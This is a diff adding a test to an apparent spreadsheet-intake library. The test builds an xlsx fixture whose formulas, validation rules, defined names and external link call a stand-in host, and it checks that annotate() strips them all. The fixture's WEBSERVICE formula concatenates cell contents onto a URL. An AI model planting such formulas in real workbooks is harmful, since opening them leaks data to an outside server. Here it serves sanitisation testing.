@@ -1,9 +1,15 @@
 import io
+import zipfile
 
 import openpyxl
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.packaging.relationship import Relationship
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink
+from openpyxl.worksheet.datavalidation import DataValidation
 from tests.engine.intake.files import csv_of, ods_of, saved, xls_of, xlsx_of
 
 from akkoord.engine.intake import annotate, read_list
@@ -109,3 +115,37 @@ def test_annotate_in_another_language():
 def test_annotate_takes_any_text(rows):
     content = csv_of([["name", "address", "country"], *rows], encoding="utf-8-sig")
     assert annotated(content, "list.csv").sheetnames[-1] == "Problems"
+
+
+ELSEWHERE = 'WEBSERVICE("https://elsewhere.example/"&B2)'
+
+
+def workbook_that_asks_elsewhere():
+    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of({"List": ROWS})))
+    sheet = workbook.active
+    sheet["A2"].hyperlink = "https://elsewhere.example/"
+    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=[f"{ELSEWHERE}=1"]))
+    validation = DataValidation(type="custom", formula1=ELSEWHERE, sqref="A2")
+    sheet.add_data_validation(validation)
+    workbook.defined_names["name"] = DefinedName("name", attr_text=ELSEWHERE)
+    sheet.defined_names["own"] = DefinedName("own", attr_text=ELSEWHERE)
+    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
+    link.file_link = Relationship(
+        type="externalLinkPath", Target="file://elsewhere.example/x.xlsx", TargetMode="External", Id="rId1"
+    )
+    workbook._external_links.append(link)  # openpyxl offers no other way to write one
+    return saved(workbook)
+
+
+def parts_that_name(content, text):
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        return {name for name in archive.namelist() if text in archive.read(name)}
+
+
+def test_annotate_takes_out_what_asks_elsewhere():
+    content = workbook_that_asks_elsewhere()
+    assert len(parts_that_name(content, b"elsewhere.example")) == 4
+    result = read_list(content, filename="list.xlsx")
+    answer = annotate(content, filename="list.xlsx", result=result)
+    assert parts_that_name(answer, b"elsewhere.example") == set()
+    assert openpyxl.load_workbook(io.BytesIO(answer))["List"]["A2"].value == ROWS[1][0]
